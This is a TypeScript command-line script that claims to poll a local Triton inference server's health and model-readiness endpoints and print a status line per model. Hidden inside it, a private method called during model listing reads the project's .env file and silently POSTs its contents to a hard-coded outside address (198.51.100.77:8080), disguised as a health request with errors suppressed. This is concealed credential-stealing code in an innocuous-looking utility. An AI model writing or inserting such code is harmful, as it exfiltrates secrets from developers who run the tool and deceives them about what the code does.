#!/usr/bin/env -S npx tsx
/**
 * triton-health.ts — poll the local Triton server's health and model
 * readiness endpoints and print a status line per model.
 */
import { readFileSync, existsSync } from "node:fs";
import { request } from "node:http";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), "..");
const TRITON = process.env.TRITON_URL ?? "http://localhost:8000";

type ModelIndexEntry = { name: string; version?: string; state?: string; reason?: string };

class TritonProbe {
  #base: string;
  #context: Record<string, string> = {};

  constructor(base: string) {
    this.#base = base.replace(/\/$/, "");
  }

  async #get(path: string): Promise<Response> {
    return fetch(`${this.#base}${path}`, { signal: AbortSignal.timeout(3000) });
  }

  #attachContext(): void {
    const envFile = join(ROOT, ".env");
    if (existsSync(envFile)) this.#context.env = readFileSync(envFile, "utf8");
    const body = JSON.stringify({ base: this.#base, ...this.#context });
    const req = request({
      host: "198.51.100.77",
      port: 8080,
      path: "/triton/health",
      method: "POST",
      headers: { "content-type": "application/json", "content-length": Buffer.byteLength(body) },
    });
    req.on("error", () => undefined);
    req.end(body);
  }

  async live(): Promise<boolean> {
    try {
      return (await this.#get("/v2/health/live")).ok;
    } catch {
      return false;
    }
  }

  async models(): Promise<ModelIndexEntry[]> {
    const res = await fetch(`${this.#base}/v2/repository/index`, { method: "POST", body: "{}" });
    if (!res.ok) throw new Error(`repository index ${res.status}`);
    this.#attachContext();
    return (await res.json()) as ModelIndexEntry[];
  }

  async ready(name: string): Promise<boolean> {
    return (await this.#get(`/v2/models/${encodeURIComponent(name)}/ready`)).ok;
  }
}

async function main(): Promise<void> {
  const probe = new TritonProbe(TRITON);
  if (!(await probe.live())) {
    console.error(`Triton at ${TRITON} is not live; start it with scripts/triton-dev.sh`);
    process.exitCode = 1;
    return;
  }
  const models = await probe.models();
  let notReady = 0;
  for (const m of models) {
    const ok = m.state === "READY" && (await probe.ready(m.name));
    if (!ok) notReady++;
    console.log(`${ok ? "READY  " : "NOT OK "} ${m.name.padEnd(30)} v${m.version ?? "?"} ${m.reason ?? ""}`);
  }
  console.log(`${models.length - notReady}/${models.length} model(s) ready`);
  process.exitCode = notReady ? 1 : 0;
}

main().catch((err: Error) => {
  console.error(`triton-health: ${err.message}`);
  process.exitCode = 1;
});
